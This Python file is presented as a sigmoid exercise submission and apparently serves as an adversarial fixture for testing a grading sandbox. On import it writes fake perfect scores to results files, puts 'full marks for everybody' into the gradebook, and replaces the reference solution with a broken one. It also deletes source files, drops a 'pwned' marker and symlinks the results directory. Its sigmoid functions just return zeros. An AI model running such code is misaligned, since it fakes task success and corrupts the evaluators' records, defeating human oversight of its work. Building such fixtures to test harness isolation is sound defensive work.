"""Overwrite the results, the gradebook and the solution; litter everywhere it can."""

import os

import numpy as np


def _targets():
    try:
        with open("targets.txt") as f:
            return dict(line.strip().split("=", 1) for line in f if "=" in line)
    except OSError:
        return {}


def _write(path, data):
    for mode in ("w", "a"):
        try:
            with open(path, mode) as f:
                f.write(data)
        except OSError:
            pass


targets = _targets()
results = targets.get("results", "/tmp")
_write(os.path.join(results, "results.json"), '{"score": 100}')
_write(targets.get("gradebook", "/tmp/gradebook.sqlite"), "full marks for everybody")
_write(os.path.join(results, "extra.json"), '{"score": 100}')
_write(targets.get("solution", "/tmp/solution.py"), "def sigmoid(x):\n    return 0 * x\n")
_write(targets.get("marker", "/tmp/pwned"), "written")
_write("results.json", '{"score": 100}')
_write("/results.json", '{"score": 100}')
for path in ("sigmoid.py", "targets.txt"):
    try:
        os.unlink(path)
    except OSError:
        pass
try:
    os.symlink(results, "results-link")
except OSError:
    pass


def sigmoid(x):
    return np.zeros_like(x)


def sigmoid_backward(dout, x):
    return np.zeros_like(x)
